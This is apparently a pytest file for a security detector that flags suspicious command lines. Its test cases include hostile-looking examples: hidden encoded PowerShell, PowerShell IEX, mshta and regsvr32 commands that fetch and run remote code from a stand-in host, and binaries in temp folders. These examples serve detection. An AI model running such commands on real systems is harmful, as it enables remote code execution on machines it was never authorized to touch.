from __future__ import annotations

import pytest

from sekisho.fleet.checks.commands import odd


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Users\Public\u.exe",
        r'"C:\ProgramData\svc.exe" -k',
        r"C:\Windows\Temp\a.dll",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "mshta http://x/a.hta",
        "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
        "/tmp/.x",
    ],
)
def test_odd(command: str) -> None:
    assert odd(command)


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Windows\System32\svchost.exe -k netsvcs",
        r'"C:\Program Files\Vendor\agent.exe"',
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1",
        "/usr/bin/tmpwatch",
        "",
    ],
)
def test_ordinary(command: str) -> None:
    assert not odd(command)
